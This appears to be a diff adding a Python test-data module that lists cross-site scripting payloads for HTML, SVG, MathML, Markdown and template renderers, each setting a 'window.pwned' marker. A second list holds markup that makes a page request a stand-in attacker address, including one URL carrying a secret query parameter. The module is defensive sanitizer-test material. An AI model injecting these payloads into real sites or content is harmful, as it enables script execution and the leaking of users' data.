@@ -1,0 +1,76 @@
+"""Texts that would run in a page that shows them as they come, or that would tell an attacker's server something."""
+
+from __future__ import annotations
+
+LEAK = "http://203.0.113.9/leak"  # nobody's address
+
+# Each sets window.pwned where it runs.
+RUNS = (
+    "<script>window.pwned=1</script>",
+    "<SCRIPT SRC=data:text/javascript,window.pwned=1></SCRIPT>",
+    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
+    "<img src=x onerror=window.pwned=1>",
+    '<img src="x" onerror="&#119;indow.pwned=1">',
+    "<img src=x:x onerror=eval('window.pwned=1')>",
+    "<IMG SRC=JaVaScRiPt:window.pwned=1>",
+    '<img """><script>window.pwned=1</script>">',
+    "<svg onload=window.pwned=1></svg>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
+    "<svg><a xlink:href='javascript:window.pwned=1'><text y=20>click</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1></svg>#x'></use></svg>",
+    "<math><mi xlink:href='javascript:window.pwned=1'>x</mi></math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<iframe src='javascript:parent.pwned=1'></iframe>",
+    "<iframe src='data:text/html,<script>parent.pwned=1</script>'></iframe>",
+    "<object data='javascript:window.pwned=1'></object>",
+    "<embed src='javascript:window.pwned=1'>",
+    "<details open ontoggle=window.pwned=1>x</details>",
+    "<body onload=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<select autofocus onfocus=window.pwned=1></select>",
+    "<textarea autofocus onfocus=window.pwned=1></textarea>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<audio src=x onerror=window.pwned=1></audio>",
+    "<marquee onstart=window.pwned=1>x</marquee>",
+    "<div style='animation-name:x' onanimationstart=window.pwned=1>x</div>",
+    "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=window.pwned=1>x</b>",
+    "<form><button formaction='javascript:window.pwned=1'>x</button></form>",
+    "<isindex type=image src=1 onerror=window.pwned=1>",
+    "<template><img src=x onerror=window.pwned=1></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
+    "<!--><img src=x onerror=window.pwned=1>-->",
+    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
+    "[click](javascript:window.pwned=1)",
+    "[click](JAVASCRIPT&colon;window.pwned=1)",
+    "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
+    "[click](vbscript:window.pwned=1)",
+    "![x](x\" onerror=\"window.pwned=1)",
+    "[x]: javascript:window.pwned=1\n\n[x]",
+    "<javascript:window.pwned=1>",
+    "```html\n</code></pre><img src=x onerror=window.pwned=1>\n```",
+    "`</code><img src=x onerror=window.pwned=1>`",
+    "$$\\href{javascript:window.pwned=1}{x}$$",
+    "$$\\unicode{<img src=x onerror=window.pwned=1>}$$",
+    "```mermaid\ngraph TD; A[<img src=x onerror=window.pwned=1>]-->B; click A \"javascript:window.pwned=1\"\n```",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "</textarea></title></style></script><svg/onload=window.pwned=1>",
+)  # fmt: skip
+
+# Each asks an attacker's server for something where it is shown.
+LEAKS = (
+    f"![x]({LEAK}.png?q=secret)",
+    f"<img src='{LEAK}.png'>",
+    f"<img srcset='{LEAK}.png 2x'>",
+    f"<link rel=stylesheet href='{LEAK}.css'>",
+    f"<link rel=prefetch href='{LEAK}'>",
+    f"<style>@import '{LEAK}.css'</style>",
+    f"<div style='background:url({LEAK}.png)'>x</div>",
+    f"<video poster='{LEAK}.png' src='{LEAK}.mp4' autoplay></video>",
+    f"<iframe src='{LEAK}'></iframe>",
+    f"<meta http-equiv=refresh content='0;url={LEAK}'>",
+    f"<base href='{LEAK}/'>",
+    f"<form action='{LEAK}'><input name=q autofocus></form>",
+)
+PAYLOADS = (*RUNS, *LEAKS)
